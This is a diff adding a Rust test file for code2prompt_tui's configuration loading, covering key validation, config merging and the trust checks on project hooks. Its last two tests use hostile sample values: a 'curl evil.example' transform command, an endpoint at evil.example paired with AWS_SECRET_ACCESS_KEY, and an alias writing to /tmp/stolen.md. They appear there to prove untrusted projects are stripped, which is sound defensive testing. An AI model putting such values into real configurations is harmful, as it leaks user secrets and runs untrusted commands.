@@ -0,0 +1,219 @@
+use std::fs;
+
+use code2prompt_tui::engine::config_file::{
+    ConfigFile, RepoConfig, STARTER_CONFIG, load_project, load_project_for, project_path,
+};
+use code2prompt_tui::engine::token::TokenizerChoice;
+use code2prompt_tui::ui::template::{check_template, starter_template};
+use tempfile::tempdir;
+
+#[test]
+fn test_unknown_keys_are_rejected() {
+    let err = toml::from_str::<ConfigFile>("tokenzer = \"cl100k\"\n").unwrap_err();
+    assert!(
+        err.to_string().contains("unknown field `tokenzer`"),
+        "{err}"
+    );
+
+    let err = toml::from_str::<ConfigFile>("[hooks]\npre_scna = \"make\"\n").unwrap_err();
+    assert!(
+        err.to_string().contains("unknown field `pre_scna`"),
+        "{err}"
+    );
+}
+
+#[test]
+fn test_wrong_types_are_rejected() {
+    let err = toml::from_str::<ConfigFile>("line_numbers = \"yes\"\n").unwrap_err();
+    assert!(err.to_string().contains("line_numbers"), "{err}");
+}
+
+#[test]
+fn test_unknown_repo_config_keys_are_rejected() {
+    let err = toml::from_str::<RepoConfig>("excludes = [\"a/**\"]\n").unwrap_err();
+    assert!(
+        err.to_string().contains("unknown field `excludes`"),
+        "{err}"
+    );
+}
+
+#[test]
+fn test_starter_config_is_valid_when_uncommented() {
+    toml::from_str::<ConfigFile>(STARTER_CONFIG).unwrap();
+
+    // Settings are commented out with `#key` and prose with `# `.
+    let uncommented: String = STARTER_CONFIG
+        .lines()
+        .map(|line| match line.strip_prefix('#') {
+            Some(rest) if !rest.is_empty() && !rest.starts_with(' ') => rest,
+            _ => line,
+        })
+        .map(|line| format!("{line}\n"))
+        .collect();
+    let cfg: ConfigFile = toml::from_str(&uncommented).unwrap();
+    assert_eq!(cfg.tokenizer, Some(TokenizerChoice::Cl100k));
+    assert!(cfg.hooks.is_some() && cfg.llm.is_some() && cfg.transform.is_some());
+    assert_eq!(cfg.output.auto_exclude_artifacts, Some(false));
+    assert!(cfg.aliases.unwrap().contains_key("review"));
+}
+
+#[test]
+fn test_starter_template_compiles() {
+    let check = check_template(&starter_template()).unwrap();
+    assert!(check.is_ok(), "{check:?}");
+    assert!(check.variables.is_empty(), "{:?}", check.variables);
+}
+
+#[test]
+fn test_project_config_overrides_the_global_one() {
+    let global: ConfigFile = toml::from_str(
+        "tokenizer = \"Cl100k\"\nline_numbers = true\nexclude = [\"a/**\"]\n\n[priority]\n\"src/**\" = 1\n\"docs/**\" = -1\n",
+    )
+    .unwrap();
+
+    let dir = tempdir().unwrap();
+    assert!(load_project(dir.path()).unwrap().is_none());
+    fs::create_dir(dir.path().join(".code2prompt")).unwrap();
+    fs::write(
+        project_path(dir.path()),
+        "tokenizer = \"O200kBase\"\nexclude = [\"b/**\"]\n\n[priority]\n\"src/**\" = 5\n",
+    )
+    .unwrap();
+    let project = load_project(dir.path()).unwrap().unwrap();
+
+    let merged = global.overlaid_with(project);
+    assert_eq!(merged.tokenizer, Some(TokenizerChoice::O200kBase));
+    assert_eq!(merged.line_numbers, Some(true));
+    assert_eq!(merged.exclude.unwrap(), ["a/**", "b/**"]);
+    let priority = merged.priority.unwrap();
+    assert_eq!(priority["src/**"], 5);
+    assert_eq!(priority["docs/**"], -1);
+}
+
+#[test]
+fn test_project_config_can_turn_on_artifact_excludes() {
+    let global: ConfigFile = toml::from_str("[output]\nauto_exclude_artifacts = false\n").unwrap();
+    let project: ConfigFile = toml::from_str("[output]\nauto_exclude_artifacts = true\n").unwrap();
+    assert_eq!(
+        global
+            .clone()
+            .overlaid_with(project)
+            .output
+            .auto_exclude_artifacts,
+        Some(true)
+    );
+    let unset = ConfigFile::default();
+    assert_eq!(
+        global.overlaid_with(unset).output.auto_exclude_artifacts,
+        Some(false)
+    );
+}
+
+#[test]
+fn test_invalid_project_config_names_the_file() {
+    let dir = tempdir().unwrap();
+    fs::create_dir(dir.path().join(".code2prompt")).unwrap();
+    fs::write(project_path(dir.path()), "line_number = true\n").unwrap();
+    let err = format!("{:#}", load_project(dir.path()).unwrap_err());
+    assert!(err.contains(".code2prompt"), "{err}");
+    assert!(err.contains("unknown field `line_number`"), "{err}");
+}
+
+#[cfg(unix)]
+#[test]
+fn test_project_hooks_do_not_run_unless_trusted() {
+    let dir = tempdir().unwrap();
+    fs::create_dir(dir.path().join(".code2prompt")).unwrap();
+    let marker = dir.path().join("pwned");
+    fs::write(
+        project_path(dir.path()),
+        format!(
+            "[hooks]\npre_scan = 'touch {:?}'\n",
+            marker.to_str().unwrap()
+        ),
+    )
+    .unwrap();
+
+    let global = ConfigFile::default();
+    let project = load_project_for(&global, dir.path()).unwrap().unwrap();
+    let merged = global.clone().overlaid_with(project);
+    assert!(merged.hooks.is_none());
+    merged
+        .hooks
+        .unwrap_or_default()
+        .run_pre_scan(dir.path())
+        .unwrap();
+    assert!(!marker.exists());
+
+    let trusting: ConfigFile = toml::from_str(&format!(
+        "trusted_projects = [{:?}]\n",
+        dir.path().to_str().unwrap()
+    ))
+    .unwrap();
+    let project = load_project_for(&trusting, dir.path()).unwrap().unwrap();
+    let merged = trusting.overlaid_with(project);
+    merged.hooks.unwrap().run_pre_scan(dir.path()).unwrap();
+    assert!(marker.exists());
+}
+
+#[test]
+fn test_untrusted_project_cannot_pick_commands_or_endpoints() {
+    let global: ConfigFile =
+        toml::from_str(
+            "[llm]\nendpoint = \"http://localhost:11434/v1\"\nmodel = \"a\"\n\n[aliases]\nreview = \"--diff\"\n",
+        )
+        .unwrap();
+    let project: ConfigFile = toml::from_str(
+        r#"
+        trusted_projects = ["."]
+
+        [transform."**/*.rs"]
+        cmd = "curl evil.example"
+        steps = ["redact", { cmd = "sh" }]
+
+        [llm]
+        endpoint = "https://evil.example/v1"
+        api_key_env = "AWS_SECRET_ACCESS_KEY"
+        model = "b"
+
+        [embeddings]
+        endpoint = "https://evil.example/v1"
+
+        [cache]
+        key_env = "HOME"
+        max_repo_mb = 5
+
+        [aliases]
+        review = "--diff -O /tmp/stolen.md"
+        "#,
+    )
+    .unwrap();
+
+    let (project, dropped) = project.untrusted_removed(&global);
+    assert_eq!(
+        dropped,
+        [
+            "transform commands",
+            "llm.endpoint and llm.api_key_env",
+            "embeddings.endpoint and embeddings.api_key_env",
+            "cache.key_env",
+            "cache.max_repo_mb and cache.max_total_mb",
+            "aliases",
+            "trusted_projects",
+        ]
+    );
+    let merged = global.overlaid_with(project);
+    let spec = &merged.transform.unwrap()["**/*.rs"];
+    assert!(spec.cmd.is_none());
+    assert_eq!(spec.steps.len(), 1);
+    let llm = merged.llm.unwrap();
+    assert_eq!(llm.endpoint, "http://localhost:11434/v1");
+    assert_eq!(llm.api_key_env.as_deref(), Some("OPENAI_API_KEY"));
+    assert_eq!(llm.model, "b");
+    let embeddings = merged.embeddings.unwrap();
+    assert_eq!(embeddings.endpoint, "https://api.openai.com/v1");
+    assert!(merged.cache.key_env.is_none());
+    assert!(merged.cache.max_repo_mb.is_none());
+    assert_eq!(merged.aliases.unwrap()["review"], "--diff");
+    assert!(merged.trusted_projects.is_none());
+}